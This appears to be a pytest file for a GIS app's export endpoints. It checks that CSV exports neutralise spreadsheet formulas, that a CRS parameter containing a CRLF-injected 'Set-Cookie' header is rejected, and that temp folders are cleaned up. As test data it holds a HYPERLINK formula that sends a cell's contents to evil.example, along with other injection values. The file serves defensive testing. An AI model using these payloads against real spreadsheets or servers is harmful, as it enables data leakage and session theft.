"""Exports that cannot be turned against their users: CSV formulas, header injection, temp files."""

from __future__ import annotations

import asyncio
import csv
import io
import tempfile

import pytest
from pyproj import CRS

from gis_onemap.api.routers.io import CleanupFileResponse
from tests.samples import sample_feature

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def export_tmp(tmp_path, monkeypatch):
    """Export temporary folders are made here, so the test sees what is left behind."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def _team(trusted_client, name, lon=110.30, lat=21.20, **props):
    feature = sample_feature("rescue_teams", {"type": "Point", "coordinates": [lon, lat]})
    feature["properties"].update(name=name, **props)
    r = trusted_client.post("/collections/rescue_teams/items", json=feature)
    assert r.status_code == 201, r.text
    return r.json()["id"]


def _csv_rows(r):
    assert r.status_code == 200, r.text
    return {
        int(row["id"]): row for row in csv.DictReader(io.StringIO(r.content.decode("utf-8-sig")))
    }


def test_csv_export_neutralises_formulas_but_not_numbers(client, trusted_client):
    fid = _team(trusted_client, FORMULA, lon=-70.25, lat=-30.5, address="+86 大道", headcount=45)
    plain = _team(trusted_client, "-5 号队", lon=110.3, lat=21.2)
    at = _team(trusted_client, "@SUM(A1:A9)", lon=110.31, lat=21.21)
    rows = _csv_rows(client.get("/collections/rescue_teams/items?f=csv"))
    assert rows[fid]["name"] == "'" + FORMULA
    assert rows[fid]["address"] == "'+86 大道"
    assert rows[plain]["name"] == "'-5 号队" and rows[at]["name"] == "'@SUM(A1:A9)"
    # numbers stay numbers: negative coordinates and counts are not prefixed
    assert (rows[fid]["lon"], rows[fid]["lat"], rows[fid]["headcount"]) == ("-70.25", "-30.5", "45")
    # GeoJSON keeps the data as it is
    feature = client.get(f"/collections/rescue_teams/items/{fid}").json()
    assert feature["properties"]["name"] == FORMULA


def test_csv_export_from_the_cli_is_neutralised_too(db_session, tmp_path):
    from gis_onemap.categories import get_category
    from gis_onemap.io.crs_params import output_crs
    from gis_onemap.io.export import ExportSpec, export_collection
    from tests.io.helpers import load, write_csv

    src = write_csv(
        tmp_path / "in.csv", ["name", "tier", "lon", "lat"],
        [["=1+2", "main", "110.3", "21.2"]],
    )  # fmt: skip
    load(db_session, "rescue_teams", src)
    out = tmp_path / "out.csv"
    export_collection(
        db_session, get_category("rescue_teams"), "csv", out, ExportSpec(output_crs(None))
    )
    names = [row["name"] for row in csv.DictReader(out.open(encoding="utf-8-sig"))]
    assert "'=1+2" in names and "=1+2" not in names


def _evil_wkt(name: str) -> str:
    crs = CRS.from_proj4("+proj=tmerc +lon_0=110 +k=1 +x_0=500000 +ellps=GRS80 +units=m +no_defs")
    return crs.to_wkt().replace('PROJCRS["unknown"', f'PROJCRS["{name}"', 1)


@pytest.mark.parametrize("f", ["csv", "gpkg", "json"])
def test_crs_with_a_line_break_is_400_and_leaves_no_temp_folder(
    client, trusted_client, export_tmp, f
):
    _team(trusted_client, "甲队")
    evil = _evil_wkt("x\r\nSet-Cookie: session=stolen")
    r = client.get("/collections/rescue_teams/items", params={"f": f, "crs": evil})
    assert r.status_code == 400, r.text
    assert "set-cookie" not in {k.lower() for k in r.headers}
    assert "control characters" in r.text
    assert list(export_tmp.iterdir()) == []


def test_a_custom_crs_name_is_percent_encoded_in_the_header(client, trusted_client, export_tmp):
    _team(trusted_client, "甲队")
    r = client.get(
        "/collections/rescue_teams/items", params={"f": "csv", "crs": _evil_wkt("高斯投影")}
    )
    assert r.status_code == 200, r.text
    assert r.headers["content-crs"].isascii() and "%E9%AB%98" in r.headers["content-crs"]
    assert list(export_tmp.iterdir()) == []


@pytest.mark.parametrize("ending", ["hang-up", "broken-pipe"])
def test_the_export_folder_is_removed_however_the_download_ends(tmp_path, ending):
    """A client that hangs up (http.disconnect) or a send that fails (a broken connection:
    Starlette then skips the background task) still leaves no export folder behind."""
    folder = tmp_path / "onemap-export-x"
    folder.mkdir()
    (folder / "teams.csv").write_bytes(b"id,name\n" * 100_000)
    response = CleanupFileResponse(folder / "teams.csv", media_type="text/csv", cleanup=folder)

    async def receive():
        await asyncio.sleep(0.05 if ending == "hang-up" else 3600)
        return {"type": "http.disconnect"}

    async def send(message):
        if message["type"] == "http.response.body":
            if ending == "broken-pipe":
                raise OSError("connection reset by peer")
            await asyncio.sleep(10)  # a slow client: the send never completes

    scope = {"type": "http", "method": "GET", "headers": [], "http_version": "1.1"}
    try:
        asyncio.run(asyncio.wait_for(response(scope, receive, send), timeout=5))
    except OSError:
        assert ending == "broken-pipe"
    assert not folder.exists()
